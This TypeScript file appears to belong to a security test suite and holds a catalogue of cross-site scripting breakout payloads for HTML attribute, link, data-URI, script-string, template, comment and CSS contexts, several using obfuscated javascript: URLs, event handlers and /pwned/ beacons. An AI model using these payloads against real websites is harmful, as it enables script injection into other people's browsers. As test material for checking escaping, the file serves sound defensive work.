import { at } from './injection.ts'
import type { Family } from './injection.ts'

/** Texts that end what they stand in, and go on as something else. */
export const breakouts: readonly Family[] = [
  at('double', (js) => `"><img src=x:x onerror=${js}>`, (js) => `" autofocus onfocus=${js} x="`, (js) => `"autofocus/onfocus="${js}`, (js) => `"><script>${js}</script><"`, (js) => `x" onmouseover="${js}" y="`, (js) => `\\"><svg onload=${js}>`, (js) => `&quot;"><svg/onload=${js}>`, (js) => `"type=image src=x:x onerror="${js}`),
  at('single', (js) => `'><img src=x:x onerror=${js}>`, (js) => `' autofocus onfocus=${js} x='`, (js) => `'autofocus/onfocus='${js}`, (js) => `'><script>${js}</script>`, (js) => `It's' onclick='${js}`, (js) => `\\'><svg onload=${js}>`, (js) => `'\tonwheel='${js}`),
  at('bare', (js) => `x onfocus=${js} autofocus`, (js) => `x><svg onload=${js}>`, (js) => `x\nautofocus\nonfocus=${js}`, (js) => `x/\tonclick=${js}`, (js) => `x\fautofocus\fonfocus=${js}`, (js) => `x onclick=${js} `),
  at('link', (js) => `javascript:${js}`, (js) => `JaVaScRiPt:${js}`, (js) => `java\tscript:${js}`, (js) => `java\r\nscript:${js}`, (js) => `\u0001\u001fjavascript:${js}`, (js) => `javascript://x%0A${js}`, (js) => `javascript:void(${js})`, (js) => `javascript:/*http://terrain.example/*/${js}`, (js) => ` javascript:x=1;${js}`, (_, id) => `/pwned/${id}`, (_, id) => `\\pwned/${id}`, (_, id) => `//localhost/pwned/${id}`),
  at('frame', (_, id) => `data:text/html,<script>ran(${id})</script>`, (_, id) => `data:text/html;base64,${Buffer.from(`<script>ran(${id})</script>`).toString('base64')}`, (_, id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(${id})'/>`, (_, id) => `DATA:text/html;charset=utf-8,%3Csvg onload=ran(${id})%3E`, (_, id) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>ran(${id})</script>`),
  { shapes: [
    ['scriptDouble', (js) => `";${js};"`], ['json', (js) => `"-${js}-"`], ['scriptDouble', (js) => `"+${js}//`], ['scriptEscaped', (js) => `\\";${js}//`], ['json', (js) => `</script><script>${js}</script>`], ['scriptDouble', (js) => `</script><svg onload=${js}>`], ['json', (js) => `"};${js};x={"a":"`], ['json', (js) => `",x:${js},y:"`], ['scriptDouble', (js) => `"\n;${js}\n"`],
  ] },
  { shapes: [['scriptSingle', (js) => `'];${js};['`], ['scriptSingle', (js) => `'-${js}-'`], ['scriptSingle', (js) => `It',${js},'`], ['scriptEscaped', (js) => `\\"-${js}//`], ['scriptSingle', (js) => `</SCRIPT\t><script>${js}</script>`], ['scriptSingle', (js) => `'+[${js}]+'`]] },
  { shapes: [
    ['scriptTemplate', (_, id) => `\${ran(${id})}`], ['scriptTemplate', (_, id) => `\`;ran(${id});\``], ['scriptTemplate', (_, id) => `\${[${id}].map(ran)}`], ['scriptBlock', (js) => `*/${js}/*`], ['scriptLine', (js) => `\u2028${js}`], ['scriptLine', (js) => `x\u2029${js}//`], ['scriptLine', (js) => `x\r${js}//`],
    ['scriptLine', (js) => `x\n-->\n${js}`], ['scriptBlock', (js) => `\\*/${js}//*/`],
  ] },
  at('style', (js) => `</style><script>${js}</script>`, (_, id) => `}*{background:url(/pwned/${id})}`, (_, id) => `red}p{background:url("/pwned/${id}")`, (js) => `</STYLE ><svg onload=${js}>`, (_, id) => `}@font-face{font-family:a;src:url(/pwned/${id})}p{font-family:a}{`, (_, id) => `*/}p{background:image-set("/pwned/${id}" 1x)}/*`, (_, id) => `red;background:url(/pwned/${id})`),
  at('styleAttribute', (_, id) => `red;background:url(/pwned/${id})`, (_, id) => `red;background-image:u\\72l(/pwned/${id})`, (_, id) => `red;list-style:url(/pwned/${id});display:list-item`, (js) => `red" onclick="${js}`, (js) => `red"><svg onload=${js}>`, (_, id) => `red;border-image:url(/pwned/${id}) 1`),
]
